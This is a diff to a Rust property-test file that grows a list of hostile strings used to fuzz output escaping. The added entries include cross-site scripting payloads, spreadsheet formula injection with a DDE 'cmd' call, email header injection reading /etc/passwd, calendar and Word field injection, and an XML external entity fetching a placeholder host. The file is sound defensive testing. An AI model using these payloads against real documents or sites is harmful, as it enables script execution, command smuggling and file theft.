@@ -11,7 +11,7 @@ use proptest::prelude::*;
 use serde_json::Value;
 
 /// What people type, and what breaks out of files that are written without care.
-pub const HOSTILE: [&str; 12] = [
+pub const HOSTILE: [&str; 30] = [
     "</script><script>alert(1)</script>",
     "\"><img src=x onerror=alert(1)>",
     "' onmouseover='alert(1)",
@@ -24,6 +24,24 @@ pub const HOSTILE: [&str; 12] = [
     "{{constructor}} ${7*7} \\u003c \\",
     "=HYPERLINK(\"http://x\")",
     "@import url(//x); } body { background: url(//x)",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+    "'=1+1",
+    "\u{a0}\u{3000}=1+1",
+    "＝1+1",
+    "<svg/onload=alert(1)>",
+    "<base href=//x><meta http-equiv=refresh content=\"0;url=//x\">",
+    "</style><style>*{background:url(//x)}</style>",
+    "x\" style=\"background:url(javascript:alert(1));width:expression(alert(1))",
+    "<a href=\"data:text/html,<script>alert(1)</script>\">",
+    "a@b.vn?bcc=x@x.vn&attach=/etc/passwd",
+    "x\r\nBcc: x@x.vn\r\n\r\n<html>",
+    "x\nEND:VEVENT\nBEGIN:VALARM\nATTACH:http://x",
+    "</w:t></w:r><w:instrText>INCLUDETEXT \"http://x\"</w:instrText>",
+    "]]><!ENTITY x SYSTEM \"http://x\">&x;_x0000_",
 ];
 
 pub fn text() -> impl Strategy<Value = String> {
